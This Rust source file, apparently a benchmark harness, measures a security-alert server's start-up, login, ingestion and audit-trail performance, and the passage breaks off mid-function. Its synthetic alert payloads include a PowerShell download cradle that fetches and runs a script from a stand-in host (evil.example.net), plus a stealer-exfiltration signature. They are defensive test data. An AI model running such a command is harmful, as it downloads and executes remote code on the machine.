//! `bulwark-bench`: starts the real (release) `bulwark` binary on a fresh data directory and
//! measures it over HTTP from this process, on the same machine. Prints a table and, with
//! `--markdown`, appends it to a file (docs/benchmarks.md keeps the recorded runs).
//!
//! Absolute numbers depend on the machine and on the load generator sharing its cores, so each
//! run also reports ratios against the same server's no-op endpoint measured in the same run.

use anyhow::{Context, bail};
use clap::{Parser, Subcommand};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

mod automation;
mod console;
mod triage;

#[derive(Parser)]
#[command(about = "Bulwark benchmark harness")]
struct Args {
    /// The bulwark binary to measure (build it with `cargo build --release -p bulwark`).
    #[arg(long, default_value = "target/release/bulwark")]
    bin: PathBuf,
    /// Seconds per load phase.
    #[arg(long, default_value_t = 10)]
    duration: u64,
    /// Concurrent connections.
    #[arg(long, default_value_t = 64)]
    concurrency: usize,
    /// Append the results as Markdown to this file.
    #[arg(long)]
    markdown: Option<PathBuf>,
    #[command(subcommand)]
    suite: Suite,
}

#[derive(Subcommand)]
enum Suite {
    /// Playbook runs per second (3-action playbook, runs queued by ingestion) with 1, 3, ...
    /// workers, and alert-to-first-action latency.
    Automation {
        /// PostgreSQL URL of an empty database (default: a fresh SQLite file).
        #[arg(long)]
        database_url: Option<String>,
        /// Runs queued per throughput measurement.
        #[arg(long, default_value_t = 5_000)]
        runs: u64,
        /// Worker counts to measure, comma-separated.
        #[arg(long, value_delimiter = ',', default_value = "1")]
        workers: Vec<usize>,
        /// Alerts sent one at a time for the latency measurement.
        #[arg(long, default_value_t = 200)]
        alerts: u64,
    },
    /// Start-up, idle memory, login, authenticated and no-op request rates.
    Foundation,
    /// Alert ingestion over HTTP: single-alert requests and NDJSON batches, 30% duplicates.
    Ingest {
        /// Run the server on this database (an empty PostgreSQL database, e.g. made with
        /// `createdb`) instead of a fresh SQLite file.
        #[arg(long)]
        database_url: Option<String>,
        /// Afterwards, keep posting NDJSON batches until this many alerts were sent, and report
        /// the server's memory then.
        #[arg(long, default_value_t = 0)]
        fill: u64,
        /// Then send single-alert requests on a fixed schedule at this rate (open loop, latency
        /// counted from each request's scheduled time); 0 skips the phase.
        #[arg(long, default_value_t = 5000)]
        rate: u64,
    },
    /// The ingest transaction alone (no HTTP): batches through the store, with and without
    /// the audit records, alternating on fresh databases in one run.
    StoreIngest {
        /// Alerts per measured run.
        #[arg(long, default_value_t = 50_000)]
        alerts: u64,
        /// Alerts per transaction (the group commit gathers up to 1024).
        #[arg(long, default_value_t = 500)]
        batch: usize,
        /// Runs of each variant.
        #[arg(long, default_value_t = 3)]
        rounds: u32,
        /// PostgreSQL URL of an empty database to measure instead of SQLite (tables are
        /// created by the migrations; every run uses a fresh tenant).
        #[arg(long)]
        database_url: Option<String>,
    },
    /// Audit trail: append rate through the store and full verification speed over N records.
    Audit {
        /// Records in the chain.
        #[arg(long, default_value_t = 1_000_000)]
        records: u64,
        /// Database URL (default: a fresh SQLite file in a temporary directory).
        #[arg(long)]
        database_url: Option<String>,
    },
    /// Web console pages rendered server-side on the triage data set (load it first with
    /// `triage --database-url ...` on the same database).
    Console {
        /// The database the `triage` suite loaded (SQLite file URL or PostgreSQL).
        #[arg(long)]
        database_url: String,
        /// Timed requests per page.
        #[arg(long, default_value_t = 50)]
        iterations: u32,
    },
    /// The alert queue at scale: loads N alerts (with observables) and M incidents straight
    /// into the tables, then times the queue queries through the store, and the incident
    /// timeline's SQL.
    Triage {
        /// Database URL: an empty PostgreSQL database (e.g. made with `createdb`) or a SQLite
        /// file (default: a fresh SQLite file in a temporary directory, removed afterwards).
        #[arg(long)]
        database_url: Option<String>,
        #[arg(long, default_value_t = 1_000_000)]
        alerts: u64,
        #[arg(long, default_value_t = 100_000)]
        incidents: u64,
        /// Timed runs per query (each query stops early after 30 s).
        #[arg(long, default_value_t = 200)]
        iterations: u32,
        /// Measure the data an earlier run loaded into this database instead of loading
        /// (pending migrations are applied first, and timed).
        #[arg(long)]
        reuse: bool,
    },
}

struct Server {
    child: Child,
    base: String,
    _dir: tempfile::TempDir,
}

impl Server {
    /// Starts the binary and returns once `/readyz` answers, with the elapsed time.
    fn start(bin: &PathBuf, dir: tempfile::TempDir) -> anyhow::Result<(Server, Duration)> {
        Self::start_on(bin, dir, None)
    }

    /// Starts the server on `database_url` (default: SQLite in `dir`).
    fn start_on(
        bin: &PathBuf,
        dir: tempfile::TempDir,
        database_url: Option<&str>,
    ) -> anyhow::Result<(Server, Duration)> {
        let t0 = Instant::now();
        let mut cmd = Command::new(bin);
        if let Some(url) = database_url {
            cmd.env("BULWARK_DATABASE_URL", url);
        }
        let mut child = cmd
            .arg("serve")
            .env("BULWARK_DATA_DIR", dir.path().join("data"))
            .env("BULWARK_LISTEN", "127.0.0.1:0")
            .env("BULWARK_ADMIN_PASSWORD", "benchmark-password-1")
            .env("BULWARK_LOG_LEVEL", "warn")
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .with_context(|| format!("starting {}", bin.display()))?;
        let stdout = child.stdout.take().context("stdout")?;
        let mut lines = BufReader::new(stdout).lines();
        let base = loop {
            match lines.next() {
                Some(Ok(l)) => {
                    if let Some(a) = l.strip_prefix("bulwark: listening on ") {
                        break a.to_string();
                    }
                }
                _ => bail!("the server exited before listening"),
            }
        };
        std::thread::spawn(move || for _ in lines {});
        loop {
            if let Ok(r) = std::net::TcpStream::connect(base.trim_start_matches("http://")) {
                drop(r);
                break;
            }
            if t0.elapsed() > Duration::from_secs(30) {
                bail!("not ready after 30 s");
            }
        }
        let elapsed = t0.elapsed();
        Ok((
            Server {
                child,
                base,
                _dir: dir,
            },
            elapsed,
        ))
    }

    fn rss_kib(&self) -> Option<u64> {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).ok()?;
        status
            .lines()
            .find_map(|l| l.strip_prefix("VmRSS:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
    }

    /// CPU time (user + system) of the server's threads named `name` so far, from
    /// `/proc/<pid>/task/*/stat` (Linux; `None` elsewhere or when no thread has the name).
    fn thread_cpu(&self, name: &str) -> Option<Duration> {
        let tasks = std::fs::read_dir(format!("/proc/{}/task", self.child.id())).ok()?;
        let mut ticks: Option<u64> = None;
        for task in tasks.flatten() {
            let Ok(comm) = std::fs::read_to_string(task.path().join("comm")) else {
                continue;
            };
            if comm.trim() != name {
                continue;
            }
            let Ok(stat) = std::fs::read_to_string(task.path().join("stat")) else {
                continue;
            };
            // After the command name in parentheses: state, then utime and stime are the
            // 12th and 13th fields (14th and 15th of the line; proc(5)).
            let fields: Vec<&str> = stat
                .rsplit_once(") ")
                .map_or(Vec::new(), |(_, rest)| rest.split_whitespace().collect());
            let time = |i: usize| fields.get(i).and_then(|f| f.parse::<u64>().ok());
            if let (Some(user), Some(system)) = (time(11), time(12)) {
                ticks = Some(ticks.unwrap_or(0) + user + system);
            }
        }
        // /proc counts in USER_HZ, 100 per second on Linux.
        ticks.map(|t| Duration::from_millis(t * 10))
    }

    fn stop(mut self) -> anyhow::Result<()> {
        let _ = Command::new("kill")
            .args(["-TERM", &self.child.id().to_string()])
            .status();
        self.child.wait()?;
        Ok(())
    }
}

struct LoadResult {
    name: String,
    requests: u64,
    errors: u64,
    rate: f64,
    p50_ms: f64,
    p99_ms: f64,
}

impl LoadResult {
    /// Rate and percentiles of the answered requests' latencies.
    fn of(name: String, mut all: Vec<Duration>, errors: u64, elapsed: Duration) -> Self {
        all.sort();
        let pct = |p: f64| {
            all.get(((all.len() as f64 * p) as usize).min(all.len().saturating_sub(1)))
                .map_or(0.0, |d| d.as_secs_f64() * 1000.0)
        };
        LoadResult {
            name,
            requests: all.len() as u64,
            errors,
            rate: all.len() as f64 / elapsed.as_secs_f64(),
            p50_ms: pct(0.50),
            p99_ms: pct(0.99),
        }
    }
}

/// Runs `concurrency` loops of `make` requests for `duration`, keep-alive connections.
async fn load<F>(name: &str, concurrency: usize, duration: Duration, make: F) -> LoadResult
where
    F: Fn(&reqwest::Client) -> reqwest::RequestBuilder + Send + Sync + 'static + Clone,
{
    let client = reqwest::Client::builder()
        .pool_max_idle_per_host(concurrency)
        .build()
        .unwrap_or_default();
    let deadline = Instant::now() + duration;
    let start = Instant::now();
    let mut tasks = Vec::new();
    for _ in 0..concurrency {
        let c = client.clone();
        let make = make.clone();
        tasks.push(tokio::spawn(async move {
            let mut lat = Vec::with_capacity(4096);
            let mut errors = 0u64;
            while Instant::now() < deadline {
                let t = Instant::now();
                match make(&c).send().await {
                    Ok(r) if r.status().is_success() => {
                        let _ = r.bytes().await;
                        lat.push(t.elapsed());
                    }
                    _ => errors += 1,
                }
            }
            (lat, errors)
        }));
    }
    let mut all = Vec::new();
    let mut errors = 0;
    for t in tasks {
        if let Ok((lat, e)) = t.await {
            all.extend(lat);
            errors += e;
        }
    }
    LoadResult::of(name.to_string(), all, errors, start.elapsed())
}

/// Open loop: one request every `1/rate` s for `duration`, whatever the answers take, each
/// timed from its scheduled start (a slow answer cannot hide the requests that would have
/// queued behind it: no coordinated omission). At most 4096 requests are in flight; a request
/// that could not start for that reason counts as an error.
async fn fixed_rate<F>(rate: u64, duration: Duration, make: F) -> LoadResult
where
    F: Fn(&reqwest::Client) -> reqwest::RequestBuilder + Send + Sync + 'static,
{
    let client = reqwest::Client::builder()
        .pool_max_idle_per_host(1024)
        .build()
        .unwrap_or_default();
    let make = std::sync::Arc::new(make);
    let in_flight = std::sync::Arc::new(tokio::sync::Semaphore::new(4096));
    let interval = Duration::from_secs_f64(1.0 / rate.max(1) as f64);
    let total = (duration.as_secs_f64() * rate as f64) as u64;
    let start = tokio::time::Instant::now();
    let mut tasks = Vec::with_capacity(total as usize);
    let mut dropped = 0u64;
    for i in 0..total {
        let scheduled = start + interval.mul_f64(i as f64);
        tokio::time::sleep_until(scheduled).await;
        let Ok(permit) = std::sync::Arc::clone(&in_flight).try_acquire_owned() else {
            dropped += 1;
            continue;
        };
        let (c, make) = (client.clone(), std::sync::Arc::clone(&make));
        tasks.push(tokio::spawn(async move {
            let _permit = permit;
            match make(&c).send().await {
                Ok(r) if r.status().is_success() => {
                    let _ = r.bytes().await;
                    Some(scheduled.elapsed())
                }
                _ => None,
            }
        }));
    }
    let mut all = Vec::with_capacity(tasks.len());
    let mut errors = dropped;
    for t in tasks {
        match t.await {
            Ok(Some(d)) => all.push(d),
            _ => errors += 1,
        }
    }
    LoadResult::of(
        format!("open loop at {rate}/s"),
        all,
        errors,
        start.elapsed(),
    )
}

/// The same server's no-op endpoint: the denominator of every ratio a suite reports.
async fn noop_phase(base: &str, concurrency: usize, duration: Duration) -> LoadResult {
    let url = format!("{base}/healthz");
    load("GET /healthz (no-op)", concurrency, duration, move |c| {
        c.get(&url)
    })
    .await
}

async fn foundation(args: &Args) -> anyhow::Result<String> {
    let duration = Duration::from_secs(args.duration);
    let mut out = String::new();

    // Start-up: first start (creates the database, migrates, hashes the admin password) and
    // a restart on the same data directory.
    let dir = tempfile::tempdir()?;
    let data = dir.path().to_path_buf();
    let (server, first_start) = Server::start(&args.bin, dir)?;
    std::thread::sleep(Duration::from_secs(1));
    let idle_rss = server.rss_kib();
    let base = server.base.clone();

    let client = reqwest::Client::new();
    let token = client
        .post(format!("{base}/api/v1/auth/login"))
        .json(&json!({"username": "admin", "password": "benchmark-password-1"}))
        .send()
        .await?
        .json::<Value>()
        .await?["access_token"]
        .as_str()
        .context("no token")?
        .to_string();

    let healthz = noop_phase(&base, args.concurrency, duration).await;
    let rss_after_healthz = server.rss_kib();
    let me = {
        let url = format!("{base}/api/v1/auth/me");
        let token = token.clone();
        load(
            "GET /api/v1/auth/me (JWT)",
            args.concurrency,
            duration,
            move |c| c.get(&url).bearer_auth(&token),
        )
        .await
    };
    let rss_after_me = server.rss_kib();
    let login = {
        let url = format!("{base}/api/v1/auth/login");
        let body = json!({"username": "admin", "password": "benchmark-password-1"});
        // argon2id is deliberately expensive: a few connections saturate the cores.
        load("POST /api/v1/auth/login", 8, duration, move |c| {
            c.post(&url).json(&body)
        })
        .await
    };
    let loaded_rss = server.rss_kib();
    server.stop()?;

    // Restart on the same data directory (no bootstrap work left).
    let keep = tempfile::tempdir()?;
    std::fs::rename(&data, keep.path().join("moved")).ok();
    let restart_dir = tempfile::tempdir()?;
    std::fs::rename(keep.path().join("moved"), restart_dir.path()).ok();
    let (server, restart) = Server::start(&args.bin, restart_dir)?;
    server.stop()?;

    let cpus = std::thread::available_parallelism().map_or(0, |n| n.get());
    out.push_str(&format!(
        "### Foundation ({} s per phase, {} connections, {} CPUs, load generator on the same machine)\n\n",
        args.duration, args.concurrency, cpus
    ));
    out.push_str("| measure | value |\n| --- | --- |\n");
    out.push_str(&format!(
        "| first start to listening (migrate + bootstrap) | {:.0} ms |\n",
        first_start.as_secs_f64() * 1000.0
    ));
    out.push_str(&format!(
        "| restart to listening | {:.0} ms |\n",
        restart.as_secs_f64() * 1000.0
    ));
    out.push_str(&format!(
        "| idle RSS after start | {:.1} MB |\n",
        idle_rss.unwrap_or(0) as f64 / 1024.0
    ));
    let mb = |k: Option<u64>| k.unwrap_or(0) as f64 / 1024.0;
    out.push_str(&format!(
        "| RSS after the /healthz phase | {:.1} MB |\n",
        mb(rss_after_healthz)
    ));
    out.push_str(&format!(
        "| RSS after the /auth/me phase | {:.1} MB |\n",
        mb(rss_after_me)
    ));
    out.push_str(&format!(
        "| RSS after the login phase | {:.1} MB |\n\n",
        mb(loaded_rss)
    ));
    out.push_str(
        "| endpoint | requests/s | p50 | p99 | errors |\n| --- | --- | --- | --- | --- |\n",
    );
    for r in [&healthz, &me, &login] {
        out.push_str(&format!(
            "| {} | {:.0} | {:.2} ms | {:.2} ms | {} of {} |\n",
            r.name,
            r.rate,
            r.p50_ms,
            r.p99_ms,
            r.errors,
            r.requests + r.errors
        ));
    }
    out.push_str(&format!(
        "\nAuthenticated `/auth/me` runs at **{:.0}%** of the same server's no-op `/healthz` rate.\n",
        100.0 * me.rate / healthz.rate.max(1.0)
    ));
    Ok(out)
}

/// The alert the `i`-th send of a phase carries (the phase's counter starts at `first`): 30%
/// of sends (`i % 10 < 3`) repeat the one sent `back` steps of the counter earlier. `back`
/// ends in 3, so that earlier send has `i % 10` of 7-9: it carried its own, new alert, and the
/// repeat is a real duplicate (by source id, or by fingerprint for payloads without one).
fn repeated(i: u64, first: u64, back: u64) -> u64 {
    if i % 10 < 3 && i >= first + back {
        i - back
    } else {
        i
    }
}

/// A realistic payload (1-2 KB) of one of three formats; `n` picks format and identity.
/// The source address differs for every `n` below 15.6 million, so alerts without a source id
/// (whose fingerprint includes their indicators) are new alerts, not fingerprint duplicates:
/// the fill's million alerts are a million rows.
fn payload(n: u64) -> (&'static str, String) {
    let ip = format!("203.{}.{}.{}", (n / 62_500) % 250, (n / 250) % 250, n % 250);
    let pad = "x".repeat(600);
    match n % 3 {
        0 => ("wazuh", json!({
            "id": format!("{n}.1715430559"), "timestamp": "2024-05-11T12:29:19.905+0000",
            "rule": {"level": 10, "description": "sshd: brute force trying to get access to the system.", "id": "5712",
                     "mitre": {"id": ["T1110"], "tactic": ["Credential Access"]}, "groups": ["syslog", "sshd", "authentication_failures"]},
            "agent": {"id": "001", "name": "web-01", "ip": "10.0.0.5"},
            "data": {"srcip": ip, "srcuser": "root"},
            "full_log": format!("May 11 12:29:19 web-01 sshd[1234]: Failed password for root from {ip} port 22 ssh2 {pad}"),
            "location": "/var/log/auth.log"
        }).to_string()),
        1 => ("suricata", json!({
            "timestamp": "2024-05-11T12:29:19.905+0000", "flow_id": n, "event_type": "alert",
            "src_ip": ip, "src_port": 51234, "dest_ip": "10.0.0.7", "dest_port": 443, "proto": "TCP",
            "alert": {"action": "allowed", "gid": 1, "signature_id": 2024897, "rev": 2,
                      "signature": "ET MALWARE Possible stealer exfiltration to evil-domain.com", "category": "A Network Trojan was detected", "severity": 1,
                      "metadata": {"mitre_technique_id": ["T1041"]}},
            "http": {"hostname": "evil-domain.com", "url": "/upload.php", "http_user_agent": pad}
        }).to_string()),
        _ => ("generic", json!({
            "source_id": format!("gen-{n}"), "title": "Suspicious PowerShell download cradle", "severity": "high",
            "hostname": "ws-042", "source_ip": ip, "username": "alice",
            "description": format!("powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example.net/a.ps1') {pad}"),
            "tags": ["powershell", "execution"], "mitre_techniques": ["T1059.001"]
        }).to_string()),
    }
}

/// Ingestion: single-alert requests and NDJSON batches of 100, 30% duplicates, against the
/// same server's no-op rate.
async fn ingest(
    args: &Args,
    database_url: Option<&str>,
    fill: u64,
    rate: u64,
) -> anyhow::Result<String> {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicU64, Ordering};
    let duration = Duration::from_secs(args.duration);
    let dir = tempfile::tempdir()?;
    let (server, _) = Server::start_on(&args.bin, dir, database_url)?;
    let base = server.base.clone();
    let mut create_key = Command::new(&args.bin);
    if let Some(url) = database_url {
        create_key.env("BULWARK_DATABASE_URL", url);
    }
    let out = create_key
        .args([
            "api-key",
            "create",
            "--name",
            "bench",
            "--scope",
            "webhooks:ingest",
            // The benchmark measures throughput, not the default per-key limit.
            "--rate-per-second",
            "100000",
            "--burst",
            "100000",
        ])
        .env("BULWARK_DATA_DIR", server._dir.path().join("data"))
        .output()?;
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let key = text
        .lines()
        .find_map(|l| l.strip_prefix("key (shown once): "))
        .context("no key printed")?
        .to_string();

    let healthz = noop_phase(&base, args.concurrency, duration).await;
    // The one ingest writer's CPU time per phase: steadier than the rates on a shared machine
    // (the writer is the bound; docs/benchmarks.md).
    let writer = |server: &Server| server.thread_cpu("bulwark-ingest");
    let writer_before_single = writer(&server);
    // 30% of requests repeat an earlier alert (same source id).
    let counter = Arc::new(AtomicU64::new(0));
    let single = {
        let base = base.clone();
        let key = key.clone();
        let counter = Arc::clone(&counter);
        load(
            "POST /webhooks/alerts/{source}, 1 alert",
            args.concurrency,
            duration,
            move |c| {
                let i = counter.fetch_add(1, Ordering::Relaxed);
                let n = repeated(i, 0, 3);
                let (src, body) = payload(n);
                c.post(format!("{base}/api/v1/webhooks/alerts/{src}"))
                    .header("x-api-key", &key)
                    .header("content-type", "application/json")
                    .body(body)
            },
        )
        .await
    };
    let rss_single = server.rss_kib();
    let writer_single = writer(&server)
        .zip(writer_before_single)
        .map(|(after, before)| after.saturating_sub(before));
    let fixed = if rate > 0 {
        let base = base.clone();
        let key = key.clone();
        let counter = Arc::clone(&counter);
        Some(
            fixed_rate(rate, duration, move |c| {
                let i = counter.fetch_add(1, Ordering::Relaxed);
                let n = repeated(i, 0, 3);
                let (src, body) = payload(n);
                c.post(format!("{base}/api/v1/webhooks/alerts/{src}"))
                    .header("x-api-key", &key)
                    .header("content-type", "application/json")
                    .body(body)
            })
            .await,
        )
    } else {
        None
    };
    let writer_before_batch = writer(&server);
    let batch_counter = Arc::new(AtomicU64::new(10_000_000));
    let batch = {
        let base = base.clone();
        let key = key.clone();
        let counter = Arc::clone(&batch_counter);
        load(
            "POST /webhooks/alerts/wazuh, NDJSON x100",
            args.concurrency,
            duration,
            move |c| {
                let mut body = String::new();
                for _ in 0..100 {
                    let i = counter.fetch_add(3, Ordering::Relaxed);
                    let n = repeated(i, 10_000_000, 303);
                    body.push_str(&payload(n).1);
                    body.push('\n');
                }
                c.post(format!("{base}/api/v1/webhooks/alerts/wazuh"))
                    .header("x-api-key", &key)
                    .header("content-type", "application/x-ndjson")
                    .body(body)
            },
        )
        .await
    };
    let rss_after = server.rss_kib();
    let writer_batch = writer(&server)
        .zip(writer_before_batch)
        .map(|(after, before)| after.saturating_sub(before));
    // Fill: NDJSON x500 from 8 connections until `fill` alerts were sent (all new ids).
    let fill_report = if fill > 0 {
        let sent = Arc::new(AtomicU64::new(0));
        let t0 = Instant::now();
        let mut tasks = Vec::new();
        for _ in 0..8 {
            let (base, key, sent) = (base.clone(), key.clone(), Arc::clone(&sent));
            tasks.push(tokio::spawn(async move {
                let c = reqwest::Client::new();
                loop {
                    let start = sent.fetch_add(500, Ordering::Relaxed);
                    if start >= fill {
                        return anyhow::Ok(());
                    }
                    let mut body = String::with_capacity(1_500_000);
                    for i in start..start + 500 {
                        body.push_str(&payload(100_000_000 + i * 3).1);
                        body.push('\n');
                    }
                    let r = c
                        .post(format!("{base}/api/v1/webhooks/alerts/wazuh"))
                        .header("x-api-key", &key)
                        .header("content-type", "application/x-ndjson")
                        .body(body)
                        .send()
                        .await?;
                    if !r.status().is_success() {
                        bail!("fill request failed: {}", r.status());
                    }
                    let _ = r.bytes().await;
                }
            }));
        }
        for t in tasks {
            t.await??;
        }
        let secs = t0.elapsed().as_secs_f64();
        let rss = server.rss_kib();
        format!(
            "\nFill: {fill} more alerts (NDJSON x500, 8 connections) in {secs:.0} s ({:.0} alerts/s); RSS afterwards {:.1} MB.\n",
            fill as f64 / secs,
            rss.unwrap_or(0) as f64 / 1024.0
        )
    } else {
        String::new()
    };
    // The server at rest after the load: freed memory is handed back to the system every
    // 5 s (`bulwark::memory::TRIM_EVERY`), so the figures right after a phase include memory
    // freed but not yet returned.
    tokio::time::sleep(Duration::from_secs(6)).await;
    let rss_idle = server.rss_kib();
    server.stop()?;
    let mb = |k: Option<u64>| k.unwrap_or(0) as f64 / 1024.0;
    let cpus = std::thread::available_parallelism().map_or(0, |n| n.get());
    let mut out = format!(
        "### Ingestion ({} s per phase, {} CPUs, {}, load generator on the same machine)\n\n",
        args.duration,
        cpus,
        if database_url.is_some() {
            "PostgreSQL"
        } else {
            "SQLite"
        }
    );
    out.push_str("| phase | requests/s | alerts/s | p50 | p99 | errors |\n| --- | --- | --- | --- | --- | --- |\n");
    for (r, per) in [(&healthz, 0.0), (&single, 1.0), (&batch, 100.0)] {
        out.push_str(&format!(
            "| {} | {:.0} | {} | {:.2} ms | {:.2} ms | {} |\n",
            r.name,
            r.rate,
            if per > 0.0 {
                format!("{:.0}", r.rate * per)
            } else {
                "-".into()
            },
            r.p50_ms,
            r.p99_ms,
            r.errors
        ));
    }
    if let Some(f) = &fixed {
        out.push_str(&format!(
            "| same, open loop at {rate} alerts/s (latency from the scheduled send) | {:.0} | {:.0} | {:.2} ms | {:.2} ms | {} |\n",
            f.rate, f.rate, f.p50_ms, f.p99_ms, f.errors
        ));
    }
    out.push_str(&format!(
        "\nSingle-alert ingestion runs at {:.0}% of the no-op rate. RSS after the single-alert phase {:.1} MB, after the batch phase {:.1} MB.\n",
        100.0 * single.rate / healthz.rate.max(1.0), mb(rss_single), mb(rss_after)
    ));
    let per_alert = |cpu: Option<Duration>, r: &LoadResult, per: f64| {
        cpu.filter(|_| r.requests > 0).map_or("-".to_string(), |c| {
            format!(
                "{:.0} µs",
                c.as_secs_f64() * 1e6 / (r.requests as f64 * per)
            )
        })
    };
    out.push_str(&format!(
        "Ingest writer thread's CPU per alert answered: {} (single-alert phase), {} (NDJSON phase).\n",
        per_alert(writer_single, &single, 1.0),
        per_alert(writer_batch, &batch, 100.0)
    ));
    out.push_str(&fill_report);
    out.push_str(&format!(
        "RSS 6 s after the last phase, idle: {:.1} MB.\n",
        mb(rss_idle)
    ));
    Ok(out)
}

/// `alerts` normalized alerts of the benchmark's payload mix, 30% repeating an earlier one.
fn store_alerts(
    tenant: bulwark_core::TenantId,
    alerts: u64,
) -> anyhow::Result<Vec<bulwark_store::ingest::IncomingAlert>> {
    let ctx = bulwark_store::ChangeCtx::system("bench");
    (0..alerts)
        .map(|i| {
            let n = repeated(i, 0, 3);
            let (src, body) = payload(n);
            let source: bulwark_normalize::Source =
                src.parse().map_err(|_| anyhow::anyhow!("source"))?;
            let v: Value = serde_json::from_str(&body)?;
            Ok(bulwark_store::ingest::IncomingAlert {
                tenant_id: tenant,
                alert: bulwark_normalize::normalize(source, &v)?,
                raw: body,
                received_at: bulwark_core::time::now(),
                actor: ctx.clone(),
                triggers: Default::default(),
            })
        })
        .collect()
}

use bulwark_store::IngestStore;

enum AnyStore {
    Sqlite(bulwark_store::SqliteStore),
    Postgres(bulwark_store::PgStore),
}

impl AnyStore {
    async fn open(url: &str) -> anyhow::Result<Self> {
        Ok(if url.starts_with("postgres") {
            AnyStore::Postgres(bulwark_store::PgStore::connect(url).await?)
        } else {
            AnyStore::Sqlite(bulwark_store::SqliteStore::connect(url).await?)
        })
    }

    fn store(&self) -> &dyn bulwark_store::Database {
        match self {
            AnyStore::Sqlite(s) => s,
            AnyStore::Postgres(s) => s,
        }
    }

    async fn ingest(
        &self,
        batch: &[bulwark_store::ingest::IncomingAlert],
        audit: bool,
    ) -> anyhow::Result<()> {
        let w = chrono::Duration::hours(24);
        match (self, audit) {
            (AnyStore::Sqlite(s), true) => IngestStore::ingest(s, batch, w).await?,
            (AnyStore::Sqlite(s), false) => s.ingest_without_audit(batch, w).await?,
            (AnyStore::Postgres(s), true) => IngestStore::ingest(s, batch, w).await?,
            (AnyStore::Postgres(s), false) => s.ingest_without_audit(batch, w).await?,
        };
        Ok(())
    }
}

/// The ingest transaction through the store, with and without the audit append, alternating
/// runs on fresh tenants (and, on SQLite, fresh database files) so both see the same table
/// sizes.
async fn store_ingest(
    alerts: u64,
    batch: usize,
    rounds: u32,
    url: Option<String>,
) -> anyhow::Result<String> {
    let mut rates: [Vec<f64>; 2] = [Vec::new(), Vec::new()];
    let backend = if url.is_some() {
        "PostgreSQL"
    } else {
        "SQLite"
    };
    for round in 0..rounds {
        for (v, audit) in [(0usize, true), (1, false)] {
            let dir = tempfile::tempdir()?;
            let url = url
                .clone()
                .unwrap_or_else(|| format!("sqlite://{}", dir.path().join("b.db").display()));
            let s = AnyStore::open(&url).await?;
            let tenant = s
                .store()
                .create_tenant(
                    &bulwark_store::ChangeCtx::system("bench"),
                    bulwark_store::NewTenant {
                        slug: format!("bench-{}", bulwark_core::TenantId::new().0.simple()),
                        name: "bench".into(),
                    },
                )
                .await?
                .id;
            let all = store_alerts(tenant, alerts)?;
            let t0 = Instant::now();
            for chunk in all.chunks(batch.max(1)) {
                s.ingest(chunk, audit).await?;
            }
            let secs = t0.elapsed().as_secs_f64();
            rates[v].push(alerts as f64 / secs);
            eprintln!(
                "round {round}: {} {:.0} alerts/s",
                if audit { "with audit" } else { "without audit" },
                alerts as f64 / secs
            );
            s.store().close().await;
        }
    }
    let median = |v: &mut Vec<f64>| {
        v.sort_by(|a, b| a.total_cmp(b));
        v[v.len() / 2]
    };
    let with = median(&mut rates[0]);
    let without = median(&mut rates[1]);
    Ok(format!(
        "### Ingest transaction through the store ({backend}, {alerts} alerts per run, batches of {batch}, median of {rounds})\n\n\
         | variant | alerts/s |\n| --- | --- |\n| with audit records | {with:.0} |\n| without audit records | {without:.0} |\n\n\
         With the audit trail, ingestion keeps {:.0}% of its throughput.\n",
        100.0 * with / without
    ))
}

/// Appends `records` audit events (one transaction each, as a real change would) and then
/// verifies the whole chain from genesis, with a checkpoint signed at the end.
async fn audit(records: u64, url: Option<String>) -> anyhow::Result<String> {
    use bulwark_store::audit::{VerifyMode, record, sign_checkpoints, verify_tenant};
    let dir = tempfile::tempdir()?;
    let url = url.unwrap_or_else(|| format!("sqlite://{}", dir.path().join("audit.db").display()));
    let store = bulwark_store::open(&url).await?;
    let tenant = bulwark_core::TenantId::new();
    let ctx = bulwark_store::ChangeCtx::system("bench");
    let t0 = Instant::now();
    // Appends from 8 concurrent tasks, like concurrent requests.
    let per_task = records / 8;
    let mut tasks = Vec::new();
    for task in 0..8u64 {
        let store = store.clone();
        let ctx = ctx.clone();
        let n = if task == 7 {
            records - per_task * 7
        } else {
            per_task
        };
        tasks.push(tokio::spawn(async move {
            for i in 0..n {
                let rec = record(
                    &ctx,
                    bulwark_audit::EventType::AlertUpdated,
                    "alert",
                    Some(format!("{task}-{i}")),
                    Some(json!({"status": "new"})),
                    Some(json!({"status": "triaged", "assignee": "analyst-7"})),
                )?;
                store.append_event(tenant, rec).await?;
            }
            anyhow::Ok(())
        }));
    }
    for t in tasks {
        t.await??;
    }
    let append_secs = t0.elapsed().as_secs_f64();
    let signer = bulwark_audit::CheckpointSigner::generate().map_err(|e| anyhow::anyhow!("{e}"))?;
    sign_checkpoints(store.as_ref(), &signer, &bulwark_core::Scope::AllTenants).await?;
    let t1 = Instant::now();
    let report = verify_tenant(
        store.as_ref(),
        tenant,
        &[signer.verifying_key()],
        VerifyMode::Full,
    )
    .await?;
    let verify_secs = t1.elapsed().as_secs_f64();
    if !report.is_ok() || report.records_checked != records {
        bail!("verification failed: {:?}", report.first_break);
    }
    store.close().await;
    let backend = if url.starts_with("postgres") {
        "PostgreSQL"
    } else {
        "SQLite"
    };
    Ok(format!(
        "### Audit trail ({backend}, {records} records)\n\n| measure | value |\n| --- | --- |\n\
         | append, one transaction per record, 8 concurrent writers | {:.0} records/s |\n\
         | full verification from genesis (read + decode + hash + checkpoint) | {:.0} records/s ({:.1} s) |\n",
        records as f64 / append_secs,
        records as f64 / verify_secs,
        verify_secs
    ))
}

fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()?;
    let report = rt.block_on(async {
        match args.suite {
            Suite::Foundation => foundation(&args).await,
            Suite::Automation {
                ref database_url,
                runs,
                ref workers,
                alerts,
            } => automation::automation(database_url.clone(), runs, workers.clone(), alerts).await,
            Suite::Ingest {
                ref database_url,
                fill,
                rate,
            } => ingest(&args, database_url.as_deref(), fill, rate).await,
            Suite::Audit {
                records,
                ref database_url,
            } => audit(records, database_url.clone()).await,
            Suite::StoreIngest {
                alerts,
                batch,
                rounds,
                ref database_url,
